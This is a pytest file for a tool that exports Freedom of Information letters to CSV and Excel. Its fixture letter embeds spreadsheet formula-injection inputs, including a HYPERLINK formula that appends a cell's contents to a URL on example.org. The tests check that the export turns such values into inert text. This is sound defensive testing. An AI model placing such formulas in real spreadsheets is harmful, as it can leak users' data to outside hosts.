"""The flat table: a row for each letter and question, safe to open in a spreadsheet."""

import csv
import io
import sys
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from lxml import etree

from kg.build import build
from kg.errors import MissingPackage
from kg.export.flat import COLUMNS, flat_csv, flat_rows
from kg.export.workbook import flat_xlsx
from kg.store import Store, open_store
from kg.table import Cell, csv_lines
from tests.conftest import EXAMPLES

TRICKS = """\
Northfold District Council
Our reference: ND-2231
Date: 3 March 2025

Dear Requester

Thank you for your request of 10 February 2025 under the Freedom of Information Act 2000. You asked:

1. =HYPERLINK("http://example.org/?"&A1,"How much did the £2m bandstand at Pwllŵyn cost?")
2. @SUM(1+1) Who painted the bandstand in 2019?

Our answers are:

1. The bandstand cost £2,114,000.
2. We do not hold this information.

If you are unhappy with this answer you may ask for an internal review within 40 working days.

Yours sincerely
Information Officer
"""
REFUSED = """\
Northfold District Council
Our reference: ND-2235
Date: 28 March 2025

Dear Requester

Thank you for your request of 3 March 2025 under the Freedom of Information Act 2000. You asked:

1. What did each bidder offer for the lease of the bandstand café?

We hold this information. It is withheld under section 43(2) of the Freedom of Information Act 2000
because its disclosure would be likely to prejudice the commercial interests of the bidders.
Disclosure would show how public land is let. Against this, bidders would offer less if they knew of
each other's bids. We have concluded that the public interest in maintaining the exemption outweighs
the public interest in disclosure.

If you are unhappy with this answer you may ask for an internal review within 40 working days. After
that you may complain to the Information Commissioner's Office.

Yours sincerely
Information Officer
"""
BARE = """\
Northfold District Council
Our reference: ND-2240
4 March 2025

Dear Requester

We write about your request under the Freedom of Information Act 2000. We need more time to answer.

Yours sincerely
Information Officer
"""
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    """An example and three letters made here."""
    folder = tmp_path_factory.mktemp("flat")
    for name, text in (("tricks.txt", TRICKS), ("refused.txt", REFUSED), ("bare.txt", BARE)):
        (folder / name).write_text(text, "utf-8")
    build([folder, EXAMPLES / "humberside-police-ncnd-part.pdf"], folder / "store")
    return open_store(folder / "store")


@pytest.fixture(scope="module")
def rows(store: Store) -> list[dict[str, Cell | date]]:
    return [dict(zip(COLUMNS, row, strict=True)) for row in flat_rows(store)]


def of(rows: list[dict[str, Cell | date]], file: str) -> Iterator[dict[str, Cell | date]]:
    return (row for row in rows if row["File"] == file)


def test_a_row_says_what_a_reader_of_the_letter_would(rows: list[dict[str, Cell | date]]) -> None:
    (row,) = of(rows, "refused.txt")
    expected = {
        "Letter": "Northfold District Council, ND-2235",
        "Authority": "Northfold District Council",
        "Regime": "FOIA",
        "Reference": "ND-2235",
        "Received": date(2025, 3, 3),
        "Issued": date(2025, 3, 28),
        "Calendar days": 25,
        "Question": "1",
        "Question asked": "What did each bidder offer for the lease of the bandstand café?",
        "Outcome": "Withheld",
        "Exemptions": "FOIA s.43(2)",
        "Neither confirmed nor denied": None,
        "Public interest": "FOIA s.43(2): maintain",
        "Review within working days": 40,
        "Complain to": "Information Commissioner's Office",
    }
    assert {name: row[name] for name in expected} == expected
    assert "commercial interests" in str(row["What the exemptions are about"])
    assert "withheld under section 43(2)" in str(row["Words of the answer"])


def test_an_answer_that_neither_confirms_nor_denies_says_so(
    rows: list[dict[str, Cell | date]],
) -> None:
    found = {
        row["Neither confirmed nor denied"] for row in of(rows, "humberside-police-ncnd-part.pdf")
    }
    assert "yes" in found


def test_every_question_has_a_row_in_its_order_and_a_letter_without_any_has_one(
    rows: list[dict[str, Cell | date]],
) -> None:
    assert [row["Question"] for row in of(rows, "tricks.txt")] == ["1", "2"]
    (bare,) = of(rows, "bare.txt")
    assert bare["Reference"] == "ND-2240"
    empty = ("Question", "Question asked", "Outcome", "Exemptions", "Words of the answer")
    assert [bare[name] for name in empty] == [None] * len(empty)
    assert [row["File"] for row in rows] == sorted(str(row["File"]) for row in rows)


def test_no_cell_tells_where_on_the_machine_a_letter_lay(
    store: Store, rows: list[dict[str, Cell | date]]
) -> None:
    folder = str(Path(next(iter(store.manifest))).parent)
    assert not [row for row in rows if folder in str(row)]


def read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_formulas_of_a_letter_are_text_in_csv_unless_raw(store: Store) -> None:
    def asked(*, raw: bool) -> list[str]:
        found = read(b"".join(flat_csv(store, raw=raw)))
        return [row["Question asked"] for row in found if row["File"] == "tricks.txt"]

    assert [text[:6] for text in asked(raw=False)] == ["'=HYPE", "'@SUM("]
    assert [text[:5] for text in asked(raw=True)] == ["=HYPE", "@SUM("]
    assert "£2m bandstand at Pwllŵyn" in asked(raw=False)[0]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44", "'+44"),
        ("-2+3", "'-2+3"),
        ("- item", "'- item"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a=b", "a=b"),
        ("s.31(1)-(2)", "s.31(1)-(2)"),
        (-2, "-2"),
        (date(2025, 3, 3), "2025-03-03"),
        (None, ""),
    ],
)
def test_cells(cell: Cell | date, written: str) -> None:
    (line,) = csv_lines([("x", cell)])
    ((_, found),) = csv.reader(io.StringIO(line, newline=""))
    assert found == written


def test_the_byte_order_mark_stands_first_unless_it_is_not_wanted(store: Store) -> None:
    marked, plain = (b"".join(flat_csv(store, bom=bom)) for bom in (True, False))
    assert marked == b"\xef\xbb\xbf" + plain
    assert plain.startswith(b"File,Letter,Authority")
    assert plain.count(b"\r\n") == len(read(plain)) + 1


@pytest.fixture(scope="module")
def workbook(store: Store) -> bytes:
    return b"".join(flat_xlsx(store))


def sheet(workbook: bytes) -> etree._Element:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))


def test_the_workbook_holds_the_rows_as_text_days_and_numbers(
    workbook: bytes, rows: list[dict[str, Cell | date]]
) -> None:
    written = sheet(workbook).findall(f".//{SHEET}row")
    assert len(written) == len(rows) + 1
    for row, cells in zip(rows, written[1:], strict=True):
        values = [value for value in row.values() if value is not None]
        assert len(values) == len(cells)
        for value, cell in zip(values, cells, strict=True):
            found = "".join(map(str, cell.itertext()))
            if isinstance(value, date):
                assert float(found) == (value - date(1899, 12, 30)).days
            elif isinstance(value, int):
                assert (cell.get("t"), float(found)) == (None, value)
            else:
                assert (cell.get("t"), found) == ("inlineStr", value)
    assert not sheet(workbook).findall(f".//{SHEET}f")  # no formula
    assert not sheet(workbook).findall(f".//{SHEET}hyperlink")


def test_the_workbook_is_ready_to_be_read(workbook: bytes, rows: list[object]) -> None:
    pane = sheet(workbook).find(f".//{SHEET}pane")
    assert pane is not None and (pane.get("ySplit"), pane.get("state")) == ("1", "frozen")
    filtered = sheet(workbook).find(f"{SHEET}autoFilter")
    assert filtered is not None and filtered.get("ref") == f"A1:U{len(rows) + 1}"
    assert len(COLUMNS) == 21  # U


def test_the_workbook_tells_no_time(workbook: bytes, store: Store) -> None:
    assert workbook == b"".join(flat_xlsx(store))
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        assert {info.date_time[0] for info in archive.infolist()} == {1980}
        core = archive.read("docProps/core.xml").decode()
    assert core.count("1980-01-01T00:00:00Z") == 2 and "202" not in core.partition("dc:title")[2]


def test_a_text_too_long_for_a_cell_is_cut(monkeypatch: pytest.MonkeyPatch, store: Store) -> None:
    long = ("x" * 40_000, *COLUMNS[1:])
    monkeypatch.setattr("kg.export.workbook.flat_rows", lambda store: iter([long]))
    cell = sheet(b"".join(flat_xlsx(store))).findall(f".//{SHEET}row")[1][0]
    text = cell.findtext(f".//{SHEET}t") or ""
    assert (len(text), text[-2:]) == (32_767, "x…")


def test_without_xlsxwriter_the_cure_is_named(
    monkeypatch: pytest.MonkeyPatch, store: Store
) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(MissingPackage, match=r"foi-kg\[xlsx\]"):
        next(flat_xlsx(store))
